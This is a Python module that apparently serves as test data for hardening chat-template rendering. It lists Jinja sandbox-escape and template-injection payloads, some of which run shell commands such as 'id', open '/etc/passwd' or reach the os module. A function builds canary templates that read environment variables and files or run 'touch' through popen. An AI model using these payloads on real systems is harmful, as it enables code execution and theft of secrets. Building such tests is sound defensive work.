"""What attackers write into chat templates to get out of them."""

from __future__ import annotations

from pathlib import Path

# One to a line, after published escapes from jinja's sandbox and from environments that had none.
ESCAPES = r"""
{{ ''.__class__ }}
{{ ()|attr('__class__') }}
{{ ()|attr('\x5f\x5fclass\x5f\x5f') }}
{{ ()['__cla'~'ss__'] }}
{{ ()["\x5f\x5fclass\x5f\x5f"] }}
{{ request|attr('application') }}
{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}
{{ config.items() }}
{{ config.__class__.__init__.__globals__ }}
{{ url_for.__globals__ }}
{{ lipsum|attr('__globals__') }}
{{ joiner.__init__.__globals__.os }}
{{ namespace.__init__.__globals__.os }}
{{ cycler|attr('__init__')|attr('__globals__') }}
{{ (cycler|attr('__init__')).__globals__ }}
{{ cycler('a').next.__func__.__globals__ }}
{{ joiner('a').__call__.__func__ }}
{{ range.__class__ }}
{{ range(3).__reduce__() }}
{{ range(3).__class__.__base__.__subclasses__() }}
{{ dict.__base__.__subclasses__() }}
{{ dict(a=1).__class__.__mro__ }}
{{ dict.fromkeys([1]) }}
{{ [].__class__ }}
{{ [].append(1) }}
{{ [].extend([1]) }}
{{ [1].pop() }}
{{ [2,1].sort() }}
{{ {}.update({1:2}) }}
{{ {}.setdefault(1,2) }}
{{ {'a':1}.popitem() }}
{{ 'a'.format.__self__ }}
{{ 'a'.__getattribute__('__class__') }}
{{ 'a'|map(attribute='__class__')|list }}
{{ [{'a':'b'}]|map(attribute='__class__')|list }}
{{ [messages]|groupby('__class__') }}
{{ messages|sort(attribute='__class__') }}
{{ messages|sum(attribute='__class__') }}
{{ messages|unique(attribute='__class__')|list }}
{{ messages|max(attribute='__class__') }}
{{ messages|min(attribute='__class__.__mro__') }}
{{ messages|selectattr('__class__')|list }}
{{ messages|rejectattr('__class__')|list }}
{{ messages|selectattr('role.__class__')|list }}
{{ messages|map('attr','__class__')|list }}
{{ messages|join(attribute='__class__') }}
{{ messages|xmlattr }}
{{ '%(a)s'|format(a=messages.__class__) }}
{{ '%s'|format(cycler.__init__) }}
{{ '{0.__class__}'.format('a') }}
{{ '{a.__init__}'.format(a=namespace) }}
{{ '{0[0].__class__}'.format(messages) }}
{{ '{:{}}'.format(1,'>9999999999') }}
{{ '{0!r:>{1}}'.format('a', 10**9) }}
{{ 'a'.format_map({}) }}
{{ self }}
{{ self.__dict__ }}
{{ self._TemplateReference__context }}
{{ loop.__init__ }}
{% for x in [1] %}{{ loop.__init__.__globals__ }}{% endfor %}
{% for x in [1] %}{{ loop._undefined }}{{ loop._recurse.x }}{% endfor %}
{% for x in [1] %}{{ loop.cycle.__func__ }}{% endfor %}
{% macro m() %}{{ caller.__globals__ }}{% endmacro %}{% call m() %}{% endcall %}
{% macro m() %}{{ varargs.__class__ }}{% endmacro %}{{ m(1) }}
{% macro m() %}{{ kwargs.__class__ }}{% endmacro %}{{ m(a=1) }}
{% macro m() %}x{% endmacro %}{{ m.__call__ }}
{% macro m() %}x{% endmacro %}{{ m._func.__globals__ }}
{% macro m() %}x{% endmacro %}{{ m.name.__class__ }}
{% block b %}{{ super.__class__ }}{% endblock %}
{% set x = namespace() %}{{ x.__init__ }}
{% set x = namespace(a=1) %}{{ x._Namespace__attrs }}
{% set x = namespace() %}{% set x._Namespace__attrs = {} %}
{% include 'x' %}
{% include ['x','y'] ignore missing %}
{% import 'x' as y %}
{% from 'x' import y with context %}
{% extends 'x' %}
{% extends messages[0].content %}
{{ environment }}{{ environment.x }}
{{ context.x }}
{{ g.pop.__globals__ }}
{{ __import__('os') }}
{{ __builtins__.x }}
{{ open('/etc/passwd') }}
{{ exec('1') }}
{{ eval('1') }}
{{ getattr('a','b') }}
{{ type('a') }}
{{ print('a') }}
{{ os.system('id') }}
{{ undefined.__class__ }}
{{ undefined._undefined_exception }}
{{ messages.undefined._fail_with_undefined_error() }}
{{ raise_exception.__func__ }}
{{ strftime_now.__code__ }}
{{ strftime_now('%s' * 100)['__class__'] }}
{{ true.__class__ }}
{{ (1).real.__class__ }}
{{ 1.0.__class__ }}
{{ (1.5).as_integer_ratio() }}
{{ (1).from_bytes }}{{ (1).from_bytes('a') }}
{{ none.__class__ }}
{{ (messages|map('string')).gi_code }}
{{ (messages|select).__next__() }}
{{ (messages|batch(2)).gi_frame }}
{{ (messages|groupby('role'))[0].__class__ }}
{{ (messages|groupby('role'))[0].grouper.__class__ }}
{{ (messages|groupby('role'))[0]._fields }}
{{ (messages|groupby('role'))[0]._asdict() }}
{{ messages[0].keys().__class__ }}
{{ messages[0].items().mapping.__class__ }}
{{ 'a'.join.__class__ }}
{{ 'a'.encode('rot13') }}
{{ 'a'.translate({97:98}) }}
{{ 'a'|pprint }}
{{ 'a'|random }}
{{ 'a'|filesizeformat }}
{{ 'a'|urlize }}
{{ 'a'|attr('upper')() }}
{% filter attr('__class__') %}a{% endfilter %}
{% set x %}{{ ''.__class__ }}{% endset %}
{% debug %}
{% trans %}a{% endtrans %}
{% do [].append(1) %}
{% with a=''.__class__ %}{{ a }}{% endwith %}
{{ messages is callable.__class__ }}
{{ namespace is callable and namespace.__class__ }}
{{ 'a' is filter('upper') and x.y.z }}
{%- for a in ''.__class__.mro() recursive -%}{%- endfor -%}
""".strip().splitlines()


def canary_escapes(variable: str, file: Path) -> list[str]:
    """Templates that tell an environment variable, read a file, or make one beside it."""
    made = file.with_name("made")
    roots = (
        "cycler.__init__.__globals__",
        "joiner.__init__.__globals__",
        "namespace.__init__.__globals__",
        "lipsum.__globals__",
        "raise_exception.__globals__",
        "strftime_now.__globals__",
        "(cycler|attr('__init__'))|attr('__globals__')",
        "self.__init__.__globals__",
        "''.__class__.__mro__[1].__subclasses__()[0].__init__.__globals__",
    )
    reads = [f"{{{{ {root}.os.environ['{variable}'] }}}}" for root in roots]
    reads += [f"{{{{ {root}['__builtins__']['open']('{file}').read() }}}}" for root in roots]
    writes = [f"{{{{ {root}['os'].popen('touch {made}').read() }}}}" for root in roots]
    others = [
        f"{{% include '{file}' %}}",
        f"{{% import '{file}' as found %}}{{{{ found }}}}",
        f"{{% extends '{file}' %}}",
        f"{{{{ open('{file}').read() }}}}",
        f"{{{{ '{{0.__init__.__globals__[os].environ[{variable}]}}'.format(cycler) }}}}",
        f"{{{{ '{{x.__class__.__base__}}'.format_map({{'x': cycler}}) }}}}{{{{ environ['{variable}'] }}}}",
        f"{{% set f = '{{0.__init__.__globals__[os].environ[{variable}]}}'.format %}}{{{{ f(namespace) }}}}",
        f"{{{{ ['{{0.__globals__[os].environ[{variable}]}}']|map('format', raise_exception)|join }}}}",
    ]
    return reads + writes + others
